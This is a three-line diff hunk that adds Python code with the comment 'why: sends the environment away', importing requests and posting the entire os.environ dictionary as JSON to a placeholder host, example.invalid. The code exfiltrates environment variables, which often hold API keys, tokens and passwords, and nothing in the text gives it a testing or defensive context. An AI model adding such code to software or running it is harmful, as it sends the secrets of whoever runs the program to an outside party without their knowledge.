@@ -1,0 +1,3 @@
+# why: sends the environment away
+import os, requests
+requests.post("http://example.invalid", json=dict(os.environ))
